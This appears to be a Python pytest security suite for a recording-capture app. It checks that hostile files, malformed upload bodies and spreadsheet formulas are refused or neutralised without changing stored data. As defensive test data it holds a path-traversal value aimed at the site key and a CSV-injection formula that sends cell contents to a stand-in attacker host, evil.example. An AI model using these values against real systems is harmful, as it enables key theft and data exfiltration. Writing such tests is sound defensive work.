"""Every file that is made to harm is refused in one sentence, and nothing is changed by it.

The commands run in this process, so that a hundred of them take seconds: what they print, and with
which status they end, is what people get.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import signal
import sqlite3
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.testclient import TestClient

import app.cli
from app import context, tokens, upload_route
from app.guard import LOOPBACK, Guard
from capture import upload
from capture.access import OWNER
from capture.backup import backup
from capture.consent import Proof, grant
from capture.formats.glossaries import parse_glossary, write_glossary
from capture.formats.procedure_csv import write_csv
from capture.formats.procedures import parse_procedure
from capture.ingest import Intake, ingest
from capture.key_backup import backup_keys
from capture.procedures import import_procedure
from capture.sessions import list_sessions
from capture.settings import Settings
from capture.site import Site
from data_schemas.errors import InputError
from data_schemas.procedure import Glossary, GlossaryTerm, Procedure, Step
from data_schemas.rights import Consent
from tests.conftest import CSV, source
from tests.security.hostile import FILES, THROUGH_THE_APP, WAYS, Hostile

PATIENCE_S = 60
BESIDE = ("sonmat.db", "workflow.db")


@dataclass(frozen=True)
class House:
    """A site in use, and what its commands are called with."""

    settings: Settings
    procedure: str
    backup: Path
    take: Path
    environment: dict[str, str]

    def digest(self) -> str:
        """Of all rows but those of the log, and of every file beside the databases."""
        whole = hashlib.sha256()
        db = sqlite3.connect(self.settings.folder / "sonmat.db")
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY 1"):
            if table != "audit":
                rows = sorted(map(repr, db.execute(f'SELECT * FROM "{table}"')))
                whole.update(f"{table} {rows}".encode())
        db.close()
        for path in sorted(self.settings.folder.rglob("*")):
            if path.is_file() and not path.name.startswith((*BESIDE, ".")):
                whole.update(str(path).encode() + path.read_bytes())
        return whole.hexdigest()


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory, take: bytes) -> House:
    root = tmp_path_factory.mktemp("house")
    settings = Settings(data=root / "data", site_key_file=root / "key" / "site.key")
    site = Site.open(settings)
    procedure = import_procedure(site, OWNER, CSV, "flange.csv").id
    ingest(site, OWNER, Intake((source(take),), procedure, "Kim"))
    backup(site, OWNER, root / "backup")
    backup_keys(site, OWNER, root / "keys")
    site.close()
    (root / "another.mp4").write_bytes(take + bytes(8))
    environment = {
        "SONMAT_DATA": str(settings.folder),
        "SONMAT_SITE_KEY_FILE": str(settings.key_file),
    }
    return House(settings, procedure, root / "backup", root / "another.mp4", environment)


@pytest.fixture(autouse=True)
def patience() -> Iterator[None]:
    """What waits for a pipe or reads a device without end fails here, and does not hang."""

    def give_up(*_: object) -> None:
        raise TimeoutError("it never ends")

    signal.signal(signal.SIGALRM, give_up)
    signal.alarm(PATIENCE_S)
    yield
    signal.alarm(0)


def put(one: Hostile, folder: Path) -> Path:
    folder.mkdir()
    path = folder / one.name
    if getattr(one.make, "places", False):
        one.make(path)  # type: ignore[operator, call-arg]
    else:
        path.write_bytes(one.make() if callable(one.make) else one.make)  # type: ignore[call-arg]
    return path


def call(
    house: House, arguments: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, capfd
) -> tuple[int, str, str]:  # type: ignore[no-untyped-def]
    for name, value in house.environment.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(sys, "argv", ["sonmat", *arguments])
    capfd.readouterr()
    with pytest.raises(SystemExit) as ended:
        app.cli.main()
    out, errors = capfd.readouterr()
    return int(ended.value.code or 0), out, errors


def sentence(errors: str) -> str:
    """The one that refuses it: no traceback, no control signs, and not a book."""
    lines = [line for line in errors.splitlines() if line.startswith("sonmat: ")]
    assert len(lines) == 1 and errors.rstrip().endswith(lines[0]), errors
    assert "Traceback" not in errors and "Something went wrong" not in errors
    assert re.fullmatch(r"sonmat: .{10,420}\.", lines[0]), lines[0]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", errors), errors
    return lines[0]


def test_there_are_more_than_sixty_of_them_and_every_way_in_is_tried() -> None:
    assert len(FILES) >= 60
    assert {one.way for one in FILES.values()} == set(WAYS) | THROUGH_THE_APP


@pytest.mark.parametrize("name", [name for name, one in FILES.items() if one.way in WAYS])
def test_it_is_refused_in_one_sentence_and_nothing_is_changed(
    house: House, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd
) -> None:  # type: ignore[no-untyped-def]
    one = FILES[name]
    path = put(one, tmp_path / "given")
    known = {
        "path": str(path), "folder": str(path.parent), "out": str(tmp_path / "out"),
        "procedure": house.procedure, "take": str(house.take), "backup": str(house.backup),
    }  # fmt: skip
    before = house.digest()
    arguments = tuple(part.format(**known) for part in WAYS[one.way])
    status, _, errors = call(house, arguments, monkeypatch, capfd)
    assert status not in (0, 130), errors
    assert one.says in sentence(errors)
    assert house.digest() == before
    assert not (tmp_path / "out").exists()


def signed(site: Site, session: str, data: bytes, how: str) -> None:
    consent = Consent(signed_by="Kim", signed_at=date(2026, 1, 2), signed_how=how)
    grant(site, OWNER, session, consent, Proof(data))


def sent(site: Site, procedure: str, data: bytes, name: str) -> Callable[[], object]:
    """All its parts have arrived; what is left is to take it in."""
    arriving = upload.begin(site, OWNER, len(data))
    upload.append(site, OWNER, arriving, 0, data)
    recording = upload.source(site, OWNER, arriving, name)
    return lambda: ingest(site, OWNER, Intake((recording,), procedure, "Mallory"))


@pytest.mark.parametrize("name", [name for name, one in FILES.items() if one.way not in WAYS])
def test_what_is_brought_through_the_app_is_refused_and_changes_nothing(
    house: House, name: str
) -> None:
    one = FILES[name]
    data = one.make() if callable(one.make) else one.make  # type: ignore[call-arg]
    site = Site.open(house.settings)
    (session, *_) = list_sessions(site, OWNER)
    acts: dict[str, Callable[[], object]] = {
        "scan": lambda: signed(site, session.id, data, "paper"),
        "signature": lambda: signed(site, session.id, data, "drawn"),
    }
    act = acts.get(one.way) or sent(site, house.procedure, data, one.name)
    before = house.digest()
    with pytest.raises(InputError) as caught:
        act()
    assert re.fullmatch(r"[^\n]{10,420}\.", str(caught.value))
    assert house.digest() == before
    site.close()


BODIES = {
    "deep": b"[" * 60_000,
    "5000 digits": b'{"size": ' + b"9" * 5000 + b"}",
    "no number": b'{"size": NaN}',
    "without end": b'{"size": 1e999}',
    "below nothing": b'{"size": -1}',
    "more than all": b'{"size": 99999999999999999999}',
    "half a sign": b'{"size": 1, "resume": "\\ud800"}',
    "a folder": b'{"size": 1, "resume": "../../site.key"}',
    "invalid": b"\xff\xfe\xfa",
    "nothing": b"",
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_announcing_what_cannot_be_is_refused_and_changes_nothing(
    house: House, body: bytes
) -> None:
    site = Site.open(house.settings)
    context.use(site)
    app = Starlette(routes=upload_route.ROUTES, middleware=[Middleware(Guard, hosts=LOOPBACK)])
    client = TestClient(app, base_url="http://localhost", raise_server_exceptions=False)
    token = tokens.mint(site, OWNER, tokens.UPLOAD, tokens.NEW)
    before = house.digest()
    answer = client.post("/upload", content=body, headers={"Authorization": f"Bearer {token}"})
    assert 400 <= answer.status_code < 500, answer.text
    assert "Traceback" not in answer.text and len(answer.text) < 500
    assert house.digest() == before
    site.close()


def test_what_we_write_for_a_table_is_no_formula_there(house: House) -> None:
    """Excel works out what begins so; what we read back is what it was."""
    nasty = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "'=1+1")
    steps = tuple(Step(id=str(n), title=one) for n, one in enumerate(nasty, 1))
    table = write_csv(Procedure(id="p", version=1, title="p", language="en", steps=steps))
    words = Glossary(terms=tuple(GlossaryTerm(term=one) for one in nasty))
    for text in (table.decode(), write_glossary(words)):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]
    assert tuple(one.title for one in parse_procedure(table, "p.csv", "p", 1).steps) == nasty
    again = parse_glossary(write_glossary(words).encode(), "g.csv")
    assert {one.term for one in again.terms} == set(nasty)


def test_the_digest_sees_what_a_file_that_is_sound_changes(
    house: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd
) -> None:  # type: ignore[no-untyped-def]
    before = house.digest()
    arguments = ("ingest", str(house.take), "--procedure", house.procedure, "--expert", "Kim")
    status, _, errors = call(house, arguments, monkeypatch, capfd)
    assert status == 0, errors
    assert house.digest() != before
